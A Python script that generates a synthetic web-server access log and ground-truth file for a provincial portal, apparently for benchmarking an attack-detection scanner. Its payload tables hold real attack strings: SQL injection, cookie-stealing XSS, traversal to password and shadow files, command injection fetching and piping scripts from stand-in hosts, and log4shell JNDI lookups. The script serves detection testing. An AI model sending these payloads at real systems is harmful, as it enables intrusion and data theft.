#!/usr/bin/env python3
"""Generates a deterministic access log of the province's public-service portal
(nginx combined format, one local day at +07:00) and its ground truth, for
bench/bench_scan.sh and the e2e tests.

Normal traffic comes from thousands of addresses: page views, static files,
searches whose words look like SQL or shell ("select", "union", "or 1 ...",
quotes, "--", "&", "<="), a few 404s each and short bursts of them (pages with
missing images), and officials who mistype their password one to three times
before signing in.
Attackers by category (payloads from public cheat sheets, including
comment-spaced UNION, ORDER BY probing, ....// and backslash traversal, &&
and || chains, ontoggle/onload handlers, jndi:dns): scanner (probe paths answered 404), brute (POST
/dang-nhap answered 401 many times), sqli, xss, traversal, cmdi, log4shell,
rate (floods of ordinary pages), and lowslow (two to four injection requests
spread over several hours).

Usage: gen_weblog.py --lines N --out FILE [--truth FILE] [--seed S]
The truth file has one `ip,category` line per attacking address.
"""

import argparse
import random
import time
import urllib.parse

DAY = 86400
OFFSET = 7 * 3600
# 2024-10-10T00:00:00+07:00 in unix seconds
BASE = 1728493200

PAGES = ["/", "/trang-chu", "/tin-tuc", "/tin-tuc/hoi-nghi-2024", "/thu-tuc-hanh-chinh",
         "/thu-tuc-hanh-chinh/1.002421", "/dich-vu-cong/nop-ho-so", "/tra-cuu-ho-so",
         "/tra-cuu-ho-so?ma=H15.50.05.13-241008-0975", "/lien-he", "/gioi-thieu",
         "/van-ban/quyet-dinh-so-123-qd-ubnd", "/hoi-dap", "/hoi-dap?page=2", "/thong-bao",
         "/linh-vuc/dat-dai", "/linh-vuc/ho-tich", "/co-quan/so-tu-phap", "/bieu-mau/to-khai.pdf",
         "/thanh-toan-truc-tuyen", "/danh-gia-hai-long", "/tin-tuc/le-quoc-khanh-2-9",
         "/thu-tuc-hanh-chinh?linh-vuc=ho-tich&page=3", "/so-do-trang", "/api/thong-ke?nam=2024"]
STATIC = ["/static/css/main.css", "/static/js/app.js", "/static/img/logo.png",
          "/favicon.ico", "/static/fonts/roboto.woff2"]
SEARCHES = ["dang ky ket hon", "select a product", "union of two dossiers", "cap lai so ho khau",
            "giay phep lai xe", "order by date", "insert into the form", "drop box nop ho so",
            "or 1 truong hop", "where is my dossier", "and or not", "thu tuc 'khai sinh'",
            "delete account", "update ho so", "tra cuu 100% online", "script lop hoc",
            "alert mua lu", "cat giam thu tuc", "id the can cuoc", "tai file .zip bieu mau",
            # typed by people: quotes, dashes, signs and numbers that look like SQL or shell
            "ho so 'dat dai' or 'nha o'", "mau so 01 or 02", "luong co so 1.800.000 + phu cap",
            "thong tu 12/2024/TT-BTC", "ho so dat dai -- huong dan", "nguyen van a & tran thi b",
            "cach tinh 1/2 thue", "o'neil visa", "ket qua <= 5 ngay", "sleep clinic dong nai",
            "echo cardiogram bv da khoa", "cat tuong - bien hoa", "select 1 in 3 options"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
       "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Mobile Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
       "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
       "CocCoc/1.0 (Windows NT 10.0; Win64; x64) coc_coc_browser/128.0"]
PROBES = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/", "/shell.php",
          "/c99.php", "/r57.php", "/wso.php", "/backup.zip", "/db.sql", "/site.tar.gz",
          "/server-status", "/actuator/env", "/cgi-bin/test.cgi", "/admin/config.php.bak",
          "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/wp-content/plugins/revslider/temp.php", "/index.php~", "/config.php.old",
          "/.svn/entries", "/pma/", "/adminer.php", "/phpinfo.php", "/uploads/x.php"]
RANDOM_404 = ["/admin", "/login.aspx", "/old", "/test", "/tmp", "/a", "/images/banner.gif", "/robots.txt2"]
PAYLOADS = {
    "sqli": ["/tra-cuu-ho-so?ma=1%27%20OR%20%271%27%3D%271", "/tin-tuc?id=1+UNION+SELECT+username,password+FROM+users--",
             "/tin-tuc?id=1%20AND%20SLEEP(5)", "/hoi-dap?id=2'%20AND%20extractvalue(1,concat(0x7e,version()))--+",
             "/van-ban?id=1;%20DROP%20TABLE%20users--", "/api/thong-ke?nam=2024%27%20or%201=1--",
             "/tin-tuc?id=-1%2527%2520union%2520select%2520null--",
             "/hoi-dap?id=1%20ORDER%20BY%203--", "/tin-tuc?id=1%27%20AND%20%271%27%3D%271",
             "/tra-cuu-ho-so?ma=1%22%20OR%20%22%22%3D%22", "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3"],
    "xss": ["/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E", "/hoi-dap?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
            "/lien-he?ten=%3Csvg/onload=alert(1)%3E", "/tim-kiem?q=javascript:alert(1)",
            "/tim-kiem?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "/tim-kiem?q=%3Cdetails%20open%20ontoggle=alert(1)%3E", "/hoi-dap?q=%3Cbody%20onload=alert(1)%3E"],
    "traversal": ["/bieu-mau/tai?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow",
                  "/tai-ve?f=%2e%2e%2f%2e%2e%2fwindows%2fwin.ini", "/tai-ve?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                  "/index.php?page=php://filter/convert.base64-encode/resource=index",
                  "/tai-ve?f=....//....//....//etc/passwd", "/bieu-mau/tai?file=..%5c..%5c..%5cwindows%5cwin.ini"],
    "cmdi": ["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/ping?ip=1.1.1.1%7Cid",
             "/tra-cuu?ma=$(wget%20http://203.0.113.250/x.sh)", "/tra-cuu?ma=%60whoami%60",
             "/api/exec?c=;curl%20http://198.51.100.9/a%7Csh",
             "/api/ping?ip=127.0.0.1%26%26ping%20-c%2010%20127.0.0.1", "/api/ping?ip=%7C%7Cnslookup%20x.198.51.100.9.nip.io"],
    "log4shell": ["/?x=${jndi:ldap://198.51.100.7:1389/a}", "/tim-kiem?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%2Fx%7D",
                  "/?q=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
                  "/?q=%24%7Bjndi:dns://198.51.100.7/a%7D"],
}


def fmt_time(t):
    lt = time.gmtime(t + OFFSET)
    return time.strftime("%d/%b/%Y:%H:%M:%S +0700", lt)


def line(ip, t, method, uri, status, size, ua, ref="-"):
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"' % (ip, fmt_time(t), method, uri, status, size, ref, ua)


def gen(lines, seed):
    rnd = random.Random(seed)
    events = []  # (t, line)
    truth = []
    used = set()

    def new_ip(prefix):
        while True:
            ip = "%s.%d.%d" % (prefix, rnd.randrange(0, 256), rnd.randrange(1, 255))
            if ip not in used:
                used.add(ip)
                return ip

    scale = max(1, lines // 1000000)
    n_attack = {"scanner": 20, "brute": 10, "sqli": 10, "xss": 10, "traversal": 10, "cmdi": 10,
                "log4shell": 10, "rate": 5, "lowslow": 20}
    if lines < 20000:
        n_attack = {k: max(1, v // 5) for k, v in n_attack.items()}
    for cat, n in n_attack.items():
        for _ in range(n * scale):
            ip = new_ip(rnd.choice(["45.148", "185.220", "103.77", "89.248", "194.26"]))
            truth.append((ip, cat))
            t0 = BASE + rnd.randrange(600, DAY - 14400)
            ua = rnd.choice(UAS[:4] + ["python-requests/2.31", "Go-http-client/1.1", "curl/8.5.0"])
            if cat == "scanner":
                for k in range(rnd.randrange(40, 200)):
                    events.append((t0 + k // 3, line(ip, t0 + k // 3, "GET", rnd.choice(PROBES + RANDOM_404), 404, 162, ua)))
            elif cat == "brute":
                for k in range(rnd.randrange(30, 150)):
                    events.append((t0 + k * 3, line(ip, t0 + k * 3, "POST", "/dang-nhap", 401, 512, ua, "https://dichvucong.dongnai.gov.vn/dang-nhap")))
            elif cat == "rate":
                for k in range(rnd.randrange(1500, 3000)):
                    tt = t0 + k // 20
                    events.append((tt, line(ip, tt, "GET", rnd.choice(PAGES), 200, 5120, ua)))
            elif cat == "lowslow":
                kind = rnd.choice(list(PAYLOADS))
                for k in range(rnd.randrange(2, 5)):
                    tt = t0 + k * rnd.randrange(2400, 4000)
                    events.append((tt, line(ip, tt, "GET", rnd.choice(PAYLOADS[kind]), 200, 3000, ua)))
            else:
                for k in range(rnd.randrange(5, 40)):
                    tt = t0 + k * 2
                    uri = rnd.choice(PAYLOADS[cat])
                    agent = ua
                    if cat == "log4shell" and k % 2:
                        agent, uri = "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldA==}", "/"
                    events.append((tt, line(ip, tt, "GET", uri, rnd.choice([200, 400, 404]), 300, agent)))
    users = [new_ip(rnd.choice(["14.160", "113.161", "171.244", "27.72", "116.110", "42.112"]))
             for _ in range(5000 * scale)]
    user_ua = {ip: rnd.choice(UAS) for ip in users}
    remaining = lines - len(events)
    step = DAY / max(1, remaining)
    i = 0
    while i < remaining:
        ip = rnd.choice(users)
        ua = user_ua[ip]
        tt = int(BASE + i * step)
        r = rnd.random()
        if r < 0.55:
            events.append((tt, line(ip, tt, "GET", rnd.choice(PAGES), rnd.choice([200, 200, 200, 304]), rnd.randrange(800, 40000), ua)))
        elif r < 0.85:
            events.append((tt, line(ip, tt, "GET", rnd.choice(STATIC), 200, rnd.randrange(200, 90000), ua, "https://dichvucong.dongnai.gov.vn/")))
        elif r < 0.93:
            q = urllib.parse.quote_plus(rnd.choice(SEARCHES))
            events.append((tt, line(ip, tt, "GET", "/tim-kiem?q=" + q, 200, 12000, ua)))
        elif r < 0.955:
            events.append((tt, line(ip, tt, "GET", rnd.choice(RANDOM_404), 404, 162, ua)))
        elif r < 0.96:
            # a page whose images are missing: a short burst of 404s
            for k in range(rnd.randrange(3, 9)):
                events.append((tt, line(ip, tt, "GET", "/uploads/tin-tuc/anh-%d.jpg" % rnd.randrange(1000), 404, 162, ua,
                                        "https://dichvucong.dongnai.gov.vn/tin-tuc")))
                i += 1
            i -= 1
        else:
            # sign-in: most succeed at once, some mistype once or twice first
            for k in range(rnd.choice([0, 0, 0, 0, 0, 1, 1, 2, 2, 3])):
                events.append((tt, line(ip, tt, "POST", "/dang-nhap", 401, 512, ua)))
                tt += 8
                i += 1
            events.append((tt, line(ip, tt, "POST", "/dang-nhap", 302, 0, ua)))
        i += 1
    # bursts may overshoot by a few lines: drop the last ordinary ones (attacks come first)
    events = events[:max(lines, len(events) - (i - remaining))]
    events.sort(key=lambda e: e[0])
    return [e[1] for e in events], truth


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, default=1000000)
    ap.add_argument("--out", required=True)
    ap.add_argument("--truth")
    ap.add_argument("--seed", type=int, default=11)
    a = ap.parse_args()
    log, truth = gen(a.lines, a.seed)
    with open(a.out, "w") as f:
        f.write("\n".join(log) + "\n")
    if a.truth:
        with open(a.truth, "w") as f:
            for ip, cat in truth:
                f.write("%s,%s\n" % (ip, cat))


if __name__ == "__main__":
    main()
